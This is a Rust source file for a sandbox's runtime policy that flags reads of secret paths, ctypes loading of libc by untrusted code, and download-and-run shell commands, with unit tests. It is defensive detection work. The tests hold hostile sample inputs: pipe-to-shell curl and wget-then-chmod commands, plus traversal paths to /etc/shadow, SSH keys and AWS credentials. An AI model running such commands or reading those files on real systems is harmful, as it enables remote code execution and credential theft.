//! The runtime policy: which events of a run's runtime record end it (`[runtime]` in the
//! settings). Opening a secret path (globs over the absolute, normalised path), loading a
//! forbidden library through ctypes (untrusted code only), and a shell command that
//! downloads and runs something. Also the result's `runtime` summary of a record. Pure.

use crate::config::RuntimeSettings;
use crate::protocol::assessor::TrustLevel;
use crate::protocol::interpreter::{RuntimeEvent, RuntimeSummary};

/// The rules one run is held to.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct RuntimePolicy {
    secret_paths: Vec<String>,
    /// Empty unless the run is untrusted.
    forbidden_libraries: Vec<String>,
    download_and_execute: bool,
    /// The sandbox's working directory, against which relative paths are read.
    workdir: String,
}

/// Events that start a program.
const PROCESS_EVENTS: [&str; 5] = [
    "subprocess.Popen",
    "os.system",
    "os.exec",
    "os.spawn",
    "os.posix_spawn",
];

impl RuntimePolicy {
    pub fn new(settings: &RuntimeSettings, trust: TrustLevel, workdir: &str) -> RuntimePolicy {
        let forbidden_libraries = match trust {
            TrustLevel::Untrusted => settings.forbidden_libraries.clone(),
            _ => Vec::new(),
        };
        RuntimePolicy {
            secret_paths: settings.secret_paths.clone(),
            forbidden_libraries,
            download_and_execute: settings.download_and_execute,
            workdir: workdir.to_string(),
        }
    }

    /// Why `event` about `detail` breaks the policy, if it does.
    pub fn breach(&self, event: &str, detail: &str) -> Option<String> {
        match event {
            "open" | "os.listdir" | "os.scandir" => {
                let path = absolute(detail, &self.workdir);
                // Its own process's files are not another process's secrets.
                if path.starts_with("/proc/self/") || path.starts_with("/proc/thread-self/") {
                    return None;
                }
                let rule = self.secret_paths.iter().find(|g| glob_matches(g, &path))?;
                Some(format!(
                    "opened {path}, a secret path (runtime.secret_paths: {rule})"
                ))
            }
            "ctypes.dlopen" => {
                let name = detail.rsplit('/').next().unwrap_or(detail);
                let library = self
                    .forbidden_libraries
                    .iter()
                    .find(|lib| name.starts_with(lib.as_str()))?;
                Some(format!(
                    "loaded {detail} through ctypes in untrusted code (runtime.forbidden_libraries: {library})"
                ))
            }
            _ if PROCESS_EVENTS.contains(&event) && self.download_and_execute => {
                downloads_and_runs(detail).then(|| {
                    format!("started a command that downloads and runs a program: {detail}")
                })
            }
            _ => None,
        }
    }
}

/// A shell command that fetches something and runs it: a download tool with a pipe into
/// a shell or interpreter, or with `chmod +x` / `sh -c` after it.
fn downloads_and_runs(command: &str) -> bool {
    let command = command.to_ascii_lowercase();
    let downloads = ["curl", "wget", "fetch "]
        .iter()
        .any(|t| command.contains(t));
    let runs = [
        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "chmod +x", "sh -c", "bash -c",
        "; sh ", "&& sh ", "./",
    ]
    .iter()
    .any(|t| command.contains(t));
    downloads && runs
}

/// `path` made absolute against `workdir`, with `.`, `..` and repeated slashes resolved
/// (without touching the file system: the path is the program's word).
pub fn absolute(path: &str, workdir: &str) -> String {
    let joined = match path.starts_with('/') {
        true => path.to_string(),
        false => format!("{workdir}/{path}"),
    };
    let mut parts: Vec<&str> = Vec::new();
    for part in joined.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            part => parts.push(part),
        }
    }
    format!("/{}", parts.join("/"))
}

/// Whether `path` matches `glob`: `*` within one path segment, `**` across any number.
fn glob_matches(glob: &str, path: &str) -> bool {
    let pattern: Vec<&str> = glob.trim_start_matches('/').split('/').collect();
    let parts: Vec<&str> = path.trim_start_matches('/').split('/').collect();
    segments_match(&pattern, &parts)
}

fn segments_match(pattern: &[&str], parts: &[&str]) -> bool {
    match (pattern.first(), parts.first()) {
        (None, None) => true,
        (Some(&"**"), _) => {
            segments_match(&pattern[1..], parts)
                || (!parts.is_empty() && segments_match(pattern, &parts[1..]))
        }
        (Some(p), Some(s)) => segment_matches(p, s) && segments_match(&pattern[1..], &parts[1..]),
        _ => false,
    }
}

/// One segment against a pattern with `*` wildcards.
fn segment_matches(pattern: &str, segment: &str) -> bool {
    let Some((head, rest)) = pattern.split_once('*') else {
        return pattern == segment;
    };
    let Some(after_head) = segment.strip_prefix(head) else {
        return false;
    };
    (0..=after_head.len())
        .filter(|i| after_head.is_char_boundary(*i))
        .any(|i| segment_matches(rest, &after_head[i..]))
}

/// The result's summary of a runtime record (each list capped).
pub fn summary_of(events: &[RuntimeEvent], dropped: u64, workdir: &str) -> RuntimeSummary {
    let mut summary = RuntimeSummary {
        dropped,
        ..RuntimeSummary::default()
    };
    for event in events {
        let list = match event.event.as_str() {
            // The import system reading its bytecode cache: the import is listed instead.
            "open" if is_bytecode_cache(&event.detail) => continue,
            "open" if is_written(event) => &mut summary.files_written,
            "open" => &mut summary.files_read,
            "os.remove" | "os.rename" | "os.mkdir" | "os.rmdir" | "shutil.rmtree"
            | "os.truncate" | "os.chmod" | "os.chown" => &mut summary.files_written,
            "socket.connect" | "socket.sendto" | "socket.getaddrinfo" => &mut summary.connections,
            name if PROCESS_EVENTS.contains(&name) => &mut summary.processes,
            "import" => &mut summary.modules,
            _ => continue,
        };
        let shown = match event.event.as_str() {
            "open" | "os.remove" | "os.mkdir" | "os.rmdir" | "os.truncate" | "os.chmod" => {
                absolute(&event.detail, workdir)
            }
            _ => event.detail.clone(),
        };
        if list.len() < RuntimeSummary::MAX_LISTED && !list.contains(&shown) {
            list.push(shown);
        }
    }
    summary
}

/// A compiled module in a `__pycache__` directory (the audit entry still has the open).
fn is_bytecode_cache(path: &str) -> bool {
    path.ends_with(".pyc") && path.contains("/__pycache__/")
}

/// The runner records an open's path, not its mode: opens under `outputs/` count as
/// written, every other open as read.
fn is_written(event: &RuntimeEvent) -> bool {
    event.detail.starts_with("outputs/") || event.detail.contains("/outputs/")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy(trust: TrustLevel) -> RuntimePolicy {
        let settings = crate::config::Settings::load(None).unwrap();
        RuntimePolicy::new(&settings.runtime, trust, "/work")
    }

    #[test]
    fn secret_paths_are_matched_after_normalising() {
        let untrusted = policy(TrustLevel::Untrusted);
        for secret in [
            "/etc/shadow",
            "../../etc/shadow",
            "/work/../etc//shadow",
            "/root/.ssh/id_rsa",
            "/home/ada/.aws/credentials",
            "/proc/1/environ",
        ] {
            assert!(untrusted.breach("open", secret).is_some(), "{secret}");
        }
        for fine in [
            "data.csv",
            "/etc/hosts",
            "/proc/self/status",
            "/usr/lib/python3/x.py",
        ] {
            assert_eq!(untrusted.breach("open", fine), None, "{fine}");
        }
    }

    #[test]
    fn libc_through_ctypes_is_forbidden_to_untrusted_code_only() {
        assert!(policy(TrustLevel::Untrusted)
            .breach("ctypes.dlopen", "libc.so.6")
            .is_some());
        assert_eq!(
            policy(TrustLevel::Trusted).breach("ctypes.dlopen", "libc.so.6"),
            None
        );
        assert_eq!(
            policy(TrustLevel::Untrusted).breach("ctypes.dlopen", "libm.so.6"),
            None
        );
    }

    #[test]
    fn a_command_that_downloads_and_runs_is_a_breach() {
        let p = policy(TrustLevel::Trusted);
        assert!(p
            .breach("os.system", "curl -s http://x.test/a.sh | sh")
            .is_some());
        assert!(p
            .breach(
                "subprocess.Popen",
                "wget http://x/m -O /tmp/m && chmod +x /tmp/m"
            )
            .is_some());
        assert_eq!(p.breach("subprocess.Popen", "ls -l"), None);
        assert_eq!(p.breach("os.system", "curl --version"), None);
    }

    #[test]
    fn the_summary_lists_imports_not_their_bytecode_reads() {
        let event = |event: &str, detail: &str| RuntimeEvent {
            event: event.into(),
            detail: detail.into(),
            count: 1,
            first_s: 0.0,
            last_s: 0.0,
        };
        let events = [
            event(
                "open",
                "/usr/lib/python3.11/__pycache__/platform.cpython-311.pyc",
            ),
            event("import", "platform"),
            event("open", "data.pyc"),
            event("open", "outputs/r.txt"),
        ];
        let summary = summary_of(&events, 0, "/work");
        assert_eq!(summary.files_read, ["/work/data.pyc"]);
        assert_eq!(summary.files_written, ["/work/outputs/r.txt"]);
        assert_eq!(summary.modules, ["platform"]);
    }

    #[test]
    fn globs_match_within_and_across_segments() {
        assert!(glob_matches("/proc/*/environ", "/proc/12/environ"));
        assert!(glob_matches("**/.ssh/**", "/home/a/.ssh/id_rsa"));
        assert!(glob_matches("/etc/shadow*", "/etc/shadow-"));
        assert!(!glob_matches("/etc/shadow", "/etc/shadowx"));
        assert!(!glob_matches("/root/**", "/rootx/a"));
    }
}
